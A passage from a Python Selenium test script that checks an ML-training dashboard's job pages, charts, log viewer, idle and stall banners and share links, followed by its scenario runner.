    legend = b.js("const s = document.querySelector('#series'); return [s.children.length, s.scrollHeight > s.clientHeight,"
                  " document.querySelector('#chart').getBoundingClientRect().top, window.innerHeight];")
    check(legend[0] >= 300 and legend[1] and legend[2] < legend[3], f"the legend of 300 metrics: {legend}")


@scenario
def many_pages(b):
    """Job page after job page in one tab never hangs, and Back shows a live page again. (A page left behind stays in
    the back/forward cache; if it kept its EventSource, each would hold one of the browser's six connections to the
    server, and the seventh page would wait for one.)"""
    s = server()
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.set_page_load_timeout(8)
    live_js = "document.querySelector('#conn') && document.querySelector('#conn').dataset.state === 'live'"
    for k in range(8):
        j = JOB2 if k % 2 == 0 else JOB
        b.get(f"{URL}/jobs/{q(BATCH)}/{q(j)}")
        wait_ready(b, timeout=8)
        b.wait_js(live_js, f"#conn live on page {k + 2} ({j})", 8, "document.querySelector('#conn').textContent")
    b.driver.back()
    back_job = JOB2  # the history ends ..., JOB2, JOB
    b.wait_js(f"location.pathname.endsWith('/{q(back_job)}')", "Back to the previous job page", 8, "location.href")
    wait_ready(b, timeout=8)
    b.wait_js(live_js, "#conn live after Back", 8, "document.querySelector('#conn').textContent")
    s.post_events([event("log_line", BATCH, back_job, {"line": "BACK-MARKER after going back", "level": "info"})])
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'BACK-MARKER after going back')",
              "a log line posted after Back to appear", 8)
    no_token_in_requests(b)


@scenario
def guardrails(b):
    """Idle GPUs raise the IDLE badge and a banner; a silent run turns stalled with a banner; a busy sample clears the
    badge and the run is running again. (The server runs with a 3-second idle window and stall timeout.)"""
    from datetime import datetime, timedelta, timezone

    s = server()
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("document.querySelector('#conn').dataset.state === 'live'", "#conn live")
    check(not b.exists("#badge-idle"), "#badge-idle before any idle sample")
    start = datetime.now(timezone.utc)
    s.post_events([
        event("resource_snapshot", BATCH, None, {"gpus": [{"index": 0, "util_pct": 0, "mem_mb": 1200}]},
              ts=(start + timedelta(seconds=0.5 * i)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
        for i in range(7)
    ])
    banners = "(document.querySelector('#banners') ? document.querySelector('#banners').textContent : '')"
    b.wait_js(f"document.querySelector('#tile-status #badge-idle') && /idle/i.test({banners})",
              "the IDLE badge in #tile-status and an idle banner", 15,
              f"[document.querySelector('#tile-status').textContent, {banners}]")
    check("running" in tile(b, "status"), f"#tile-status shows {tile(b, 'status')!r} while idle")
    b.wait_js(f"document.querySelector('#tile-status').textContent.startsWith('stalled') && /stalled/i.test({banners})",
              "the stalled status and banner", 20, f"[document.querySelector('#tile-status').textContent, {banners}]")
    s.post_events([event("resource_snapshot", BATCH, None, {"gpus": [{"index": 0, "util_pct": 97, "mem_mb": 1300}]})])
    b.wait_js("!document.querySelector('#badge-idle') && document.querySelector('#tile-status').textContent.startsWith('running')",
              "running again without the IDLE badge", 15, f"[document.querySelector('#tile-status').textContent, {banners}]")
    check(not b.js(f"return /stalled/i.test({banners});"), f"the stalled banner stays: {b.text('#banners')!r}")


@scenario
def interact(b):
    """The chart's hover tooltip; the log filter searches the server (q=); the log follows until scrolled up, and
    scrolling to the top loads older lines (before_id)."""
    from selenium.webdriver.common.action_chains import ActionChains

    s = server()
    s.post_events([event("log_line", BATCH, JOB, {"line": f"bulk line {n:03d}", "level": "info"}) for n in range(300)])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    # Hover over the middle of the plot: the tooltip names an epoch and the train_loss there.
    canvas = b.driver.find_element("css selector", "#chart")
    ActionChains(b.driver).move_to_element(canvas).move_by_offset(5, 0).perform()
    tip = b.wait_js("(() => { const t = document.querySelector('#chart-tip'); return t && !t.hidden && t.textContent; })()",
                    "#chart-tip while hovering the chart", diag="document.querySelector('#chart-tip').outerHTML")
    check("epoch " in tip and "train_loss" in tip, f"#chart-tip shows {tip!r}")
    # EMA: the factor and the debiased average argus-tui draws (ChartScale.smoothed), W&B's and TensorBoard's.
    b.click("#smooth")
    b.wait_js("document.querySelector('#chart-note').textContent.includes('EMA 0.9')", "the chart's note to say EMA 0.9",
              diag="document.querySelector('#chart-note').textContent")
    assets = b.js("return document.querySelector('script[type=module]').src.replace(/main[.]js$/, '');")
    got = b.js_async("const done = arguments[arguments.length - 1];"
                     " import(arguments[0] + 'chart-scale.js').then(m => done(m.smoothed([1, 2, 3, 4, 5, 6, 7, 8, 9, 10])), e => done(String(e)));",
                     assets)
    acc, w, want = 0.0, 1.0, []
    for v in range(1, 11):
        acc, w = acc * 0.9 + 0.1 * v, w * 0.9
        want.append(acc / (1 - w))
    check(isinstance(got, list) and all(abs(g - e) < 1e-9 for g, e in zip(got, want)) and len(got) == 10,
          f"the page's EMA of 1..10 is {got}, not the debiased {want}")
    b.click("#smooth")
    # The log: the view's 200 newest lines, following (scrolled to the bottom).
    lines = "document.querySelectorAll('#log .line').length"
    b.wait_js(f"{lines} >= 200", "the log tail", diag=lines)
    follow = "document.querySelector('#log-follow').dataset.follow"
    b.wait_js(f"{follow} === 'true'", "#log-follow to say it follows", diag=follow)
    # Scrolled up to the top: not following, and older lines come from the server (before_id).
    n0 = b.js(f"return {lines};")
    b.js("const l = document.querySelector('#log'); l.scrollTop = 0; l.dispatchEvent(new Event('scroll'));")
    b.wait_js(f"{follow} === 'false'", "#log-follow to say it stopped following", diag=follow)
    b.wait_js(f"{lines} > {n0}", "older lines after scrolling to the top", diag=lines)
    b.drain()
    check(any("before_id=" in u for u in b.requests), "no log-lines request with before_id")
    # A live line does not pull a reader who scrolled up back down.
    top = b.js("const l = document.querySelector('#log'); l.scrollTop = 40; return l.scrollTop;")
    s.post_events([event("log_line", BATCH, JOB, {"line": "FOLLOW-MARKER while scrolled up", "level": "info"})])
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent === 'FOLLOW-MARKER while scrolled up')",
              "the live line while scrolled up")
    check(b.js("return document.querySelector('#log').scrollTop;") == top, "the log jumped while the reader was scrolled up")
    b.click("#log-follow")
    b.wait_js("(() => { const l = document.querySelector('#log'); return l.scrollHeight - l.scrollTop - l.clientHeight < 8; })()",
              "#log-follow to scroll to the newest line")
    check(b.js(f"return {follow};") == "true", "#log-follow does not say it follows after clicking it")
    # The filter asks the server and shows only matching lines.
    b.driver.find_element("css selector", "#log-filter").send_keys("grad norm")
    b.wait_js("(() => { const t = [...document.querySelectorAll('#log .line .text')].map(e => e.textContent);"
              " return t.length >= 1 && t.every(x => x.includes('grad norm')); })()",
              "only the lines matching 'grad norm'", diag="[...document.querySelectorAll('#log .line .text')].map(e => e.textContent).slice(0, 5)")
    b.drain()
    check(any("q=grad" in u for u in b.requests), "the filter did not ask the server (no q= request)")
    no_token_in_requests(b)


@scenario
def extremes(b):
    """Values at the ends of a double: every y label is a finite number (on log y above 0) and the curve spans the
    plot instead of lying flat on one edge."""
    s = server()
    series = {
        "near-max": [1e308, 1.5e308, 1.7e308, 1.79e308, 1.6e308],
        "both-ends": [1e308, -1e308, 1e308, -1e308, 1e308],
        "subnormal": [5e-324, 1e-320, 2e-310, 1e-315, 5e-324],
    }
    for job, values in series.items():
        s.post_events([event("job_epoch", BATCH, job, {"epoch": n, "train_loss": v}) for n, v in enumerate(values)])
    ticks = "document.querySelector('#chart').dataset.ticks || ''"
    sign_in(b, f"/jobs/{q(BATCH)}/{q('near-max')}")
    for job in series:
        b.get(f"{URL}/jobs/{q(BATCH)}/{q(job)}")
        wait_ready(b)
        for logy in (False, True):
            before = b.js(f"return {ticks};")
            if b.js("return document.querySelector('#logy').checked;") != logy:
                b.click("#logy")
                b.wait_js(f"{ticks} !== {json.dumps(before)}", f"{job}: the y labels after switching log y", diag=ticks)
            labels = b.js(f"return {ticks};").split()
            check(len(labels) >= 2, f"{job} (log y {logy}): y labels {labels}")
            bad = [l for l in labels if "Infinity" in l or "NaN" in l or (logy and l == "0")]
            check(not bad, f"{job} (log y {logy}): y labels {labels}")
            if not logy:
                span = int(b.js("return document.querySelector('#chart').dataset.trainSpan;"))
                check(span > 50, f"{job}: the curve spans {span} px (flat on one edge)")


@scenario
def diverged(b):
    """A run whose latest loss is NaN or infinite says NaN on the job page's tile and the batch page's row, not the
    dash that means "not reported"."""
    s = server()
    s.post_events([event("job_epoch", BATCH, "diverged", {"epoch": 0, "train_loss": 2.5, "val_loss": 2.7}),
                   event("job_epoch", BATCH, "diverged", {"epoch": 1, "train_loss": float("nan"), "val_loss": 2.6})])
    sign_in(b, f"/jobs/{q(BATCH)}/{q('diverged')}")
    b.wait_js("document.querySelector('#tile-train-loss').textContent.includes('NaN')",
              "the train loss tile saying NaN", diag="document.querySelector('#tile-train-loss').textContent")
    check("2.6" in tile(b, "val-loss"), f"#tile-val-loss shows {tile(b, 'val-loss')!r}")
    b.get(f"{URL}/batches/{q(BATCH)}")
    row = "[...document.querySelectorAll('tr')].find(r => r.textContent.includes('diverged'))"
    b.wait_js(f"({row})?.querySelector('.train-loss')?.textContent === 'NaN'", "the batch page's row saying NaN",
              diag=f"({row})?.textContent")


@scenario
def one_epoch(b):
    """A job with one epoch so far shows it on the chart (a dot per series), not an empty plot."""
    s = server()
    s.post_events([event("job_start", BATCH, "first-epoch", {}),
                   event("job_epoch", BATCH, "first-epoch", {"epoch": 0, "train_loss": 2.3, "val_loss": 2.4})])
    sign_in(b, f"/jobs/{q(BATCH)}/{q('first-epoch')}")
    b.wait_js("document.querySelector('#chart').getAttribute('data-epochs') === '1'", "#chart[data-epochs=1]",
              diag="document.querySelector('#chart').getAttribute('data-epochs')")
    # Pixels of each series' colour (the legend's swatch) on the canvas.
    counts = b.js("""
        const c = document.querySelector('#chart');
        const data = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        const rgb = (name) => {
          const sw = document.querySelector(`#series input[data-series=${name}]`).parentElement.querySelector('.swatch');
          return getComputedStyle(sw).backgroundColor.match(/\\d+/g).slice(0, 3).map(Number);
        };
        const count = ([r, g, bl]) => {
          let n = 0;
          for (let i = 0; i < data.length; i += 4)
            if (Math.abs(data[i] - r) < 8 && Math.abs(data[i + 1] - g) < 8 && Math.abs(data[i + 2] - bl) < 8 && data[i + 3] > 200) n++;
          return n;
        };
        return [count(rgb('train_loss')), count(rgb('val_loss'))];""")
    check(counts[0] >= 9 and counts[1] >= 9, f"pixels of the train_loss and val_loss colours on the chart: {counts}")
    check(b.text("#chart-note") == "1 epoch", f"#chart-note says {b.text('#chart-note')!r}")
    # Both series unticked: said so, not "every visible series is empty".
    b.js("for (const n of ['train_loss', 'val_loss']) document.querySelector(`#series input[data-series=${n}]`).click()")
    b.wait_js("document.querySelector('#chart-empty').textContent === 'nothing to plot: every series is unticked'",
              "the empty chart's sentence", diag="document.querySelector('#chart-empty').textContent")


@scenario
def ansi_log(b):
    """A coloured logger's escape sequences are not shown as text in the log ("[31m"), as in argus-tui."""
    s = server()
    s.post_events([event("log_line", BATCH, JOB, {"line": "\x1b[31mRED ANSI\x1b[0m normal \x1b]0;title\x07done",
                                                   "level": "info"})])
    sign_in(b, f"/jobs/{q(BATCH)}/{q(JOB)}")
    wait_ready(b)
    b.wait_js("[...document.querySelectorAll('#log .line .text')].some(e => e.textContent.includes('RED ANSI'))",
              "the coloured line in the log", diag="[...document.querySelectorAll('#log .line .text')].map(e => e.textContent)")
    shown = [t for t in log_texts(b) if "RED ANSI" in t]
    check(shown == ["RED ANSI normal done"], f"the coloured line reads {shown!r}")


@scenario
def share_nfd(b):
    """A share link whose ?job= spells "é" decomposed (NFD) opens that job, as the API takes it, not another one."""
    s = server()
    s.post_events([event("job_start", BATCH, "café é", {}),
                   event("job_epoch", BATCH, "café é", {"epoch": 0, "train_loss": 2.3, "val_loss": 2.4})])
    link = mint_share()
    b.get(f"{URL}/share/{link['token']}?job=" + q("cafe\u0301 e\u0301"))
    b.wait_js("document.querySelector('#job-switcher') && document.querySelector('#job-switcher').value === 'caf\u00e9 \u00e9'",
              "the job café é shown", diag="[document.querySelector('#job-switcher')?.value, document.body.innerText.slice(0, 300)]")
    check("has no job" not in (b.js("return document.body.innerText;") or ""), "a toast says the job does not exist")


# -- runner -------------------------------------------------------------------------------------------------------
def usage_error(name):
    """None when `name` is a scenario and the environment names a server and batch; else what is wrong."""
    if name not in SCENARIOS:
        return f"no scenario {name!r} ({', '.join(SCENARIOS)})"
    missing = [k for k, v in [("ARGUS_URL", URL), ("ARGUS_TOKEN", TOKEN), ("ARGUS_BATCH", BATCH), ("ARGUS_JOB", JOB),
                              ("ARGUS_JOB2", JOB2)] if not v]
    return f"missing environment: {', '.join(missing)}" if missing else None


def run(b, name):
    """Runs scenario `name` in browser `b` and ends it with `assert_clean`; prints `ok …` or `FAIL …` with what the
    page showed. Returns the exit status: 0 when it passed."""
    t0 = time.monotonic()
    try:
        SCENARIOS[name](b)
        if name == "session_ended":
            # The ended session's stream, view and session calls are all answered 401, which Chromium logs.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(URL) + r"/api/\S+ - Failed to load resource: the server responded with a status of 401"])
        elif name in ("signin", "hashchange"):
            # Signed out, the page learns it from GET /api/session → 401 (the contract's answer; the cookie is
            # HttpOnly), and Chromium logs every 4xx response on the console; a link with another user's token is
            # answered 409 before the page asks. Nothing else is allowed.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(f"{URL}/api/session - Failed to load resource: the server responded with a status of ") + "(401|409)"])
        elif name == "missing_job":
            # The job's view answers 404, which Chromium logs on the console. Nothing else is allowed.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(f"{URL}/api/jobs/{q(BATCH)}/nope/view - Failed to load resource: the server responded with a status of 404")])
        elif name == "not_reported_yet":
            # The view and the checks before the run reports answer 404, which Chromium logs. Nothing else.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(f"{URL}/api/jobs/future-run/{q(JOB)}") + "(/view)? - Failed to load resource: the server responded with a status of 404"])
        elif name == "refused_stream":
            # The second tab's stream is answered 429 (that is the scenario), which Chromium logs. Nothing else.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(URL) + r"/api/sse\S* - Failed to load resource: the server responded with a status of 429",
                r"EventSource's response has a status 429"])
        elif name == "lost_answer":
            # The share whose answer the relay cut off (that is the scenario), which Chromium logs. Nothing else.
            b.assert_clean(URL, allow_console=["^" + re.escape(URL) + r"/api/batches/\S+/shares - Failed to load resource: net::ERR_[A-Z_]+$"])
        elif name in ("outage", "gateway_outage"):
            # The stream cut by the relay and the tries refused while it is down (that is the scenario). Nothing else.
            b.assert_clean(URL, allow_console=[
                "^" + re.escape(URL) + r"/api/sse\S* - Failed to load resource: (net::ERR_[A-Z_]+|the server responded with a status of 50[23] .*)$",
                r"EventSource's response has a status 50[23]"])
        elif name != "revoked":
            b.assert_clean(URL)
        print(f"ok {name} ({time.monotonic() - t0:.1f} s)")
        return 0
    except Exception as e:
        print(f"FAIL {name}: {e}" if isinstance(e, Fail) else f"FAIL {name}: {traceback.format_exc()}")
        try:
            shot = b.screenshot(os.path.join(ARTIFACTS, f"{name}-failure.png"))
            print(f"  url: {b.url}\n  screenshot: {shot}")
            print("  page text: " + b.body_text(800).replace("\n", " | "))
            b.drain()
            for c in b.console:
                print(f"  console {c['level']}: {c['message']}")
            print("  requests: " + ", ".join(b.requests[-20:]))
        except Exception as d:
            print(f"  (no diagnostics: {str(d).splitlines()[0]})")
        return 1


def main(argv):
    if len(argv) == 2 and argv[1] == "--list":
        print("\n".join(SCENARIOS))
        return 0
    if len(argv) == 2 and argv[1] == "--serve":
        return serve()
    if len(argv) != 2 or usage_error(argv[1]):
        print(f"usage: {argv[0]} <scenario> | --serve | --list   ({usage_error(argv[1]) if len(argv) == 2 else 'one scenario'})",
              file=sys.stderr)
        return 2
    try:
        b = Browser()
    except Fail as e:
        print(f"FAIL {argv[1]}: {e}")
        return 1
    try:
        return run(b, argv[1])
    finally:
        b.close()


END = "\x1e"  # a line starting with it ends a scenario's output in --serve mode; the exit status follows it


def serve():
    """One scenario after another in one browser, as WebPageTests.swift's suites run them: a Chromium start and stop
    costs about 3.5 s of CPU, which 37 scenarios each paid. Reads a JSON object a line on stdin, {"scenario": name,
    "env": {variable: value}}; writes the scenario's output, then END and its exit status on a line of their own.
    Between scenarios the browser is reset (Browser.reset); after a failure, or when the reset fails, the next
    scenario gets a new browser. Ends, closing the browser, when stdin does."""
    sys.stderr = sys.stdout  # one stream, in order, per scenario
    b = None
    for line in sys.stdin:
        request = json.loads(line)
        os.environ.update(request.get("env", {}))
        load_environment()
        name = request.get("scenario", "")
        rc = 2
        problem = usage_error(name)
        if problem:
            print(problem)
        else:
            if b is not None:
                try:
                    b.reset()
                except Exception as e:
                    print(f"(a new browser: the last one did not reset: {str(e).splitlines()[0]})")
                    b.close()
                    b = None
            try:
                b = b or Browser()
            except Fail as e:
                print(f"FAIL {name}: {e}")
                rc = 1
            else:
                rc = run(b, name)
                if rc != 0:
                    b.close()
                    b = None
        print(f"{END}{rc}", flush=True)
    if b is not None:
        b.close()
    return 0


class RedactToken:
    """Failure output quotes URLs and page text: the owner's token never reaches the test log."""

    def __init__(self, stream):
        self.stream = stream

    def write(self, text):
        return self.stream.write(text.replace(TOKEN, "<token>") if len(TOKEN) >= 16 else text)

    def flush(self):
        self.stream.flush()


if __name__ == "__main__":
    sys.stdout, sys.stderr = RedactToken(sys.stdout), RedactToken(sys.stderr)
    sys.exit(main(sys.argv))
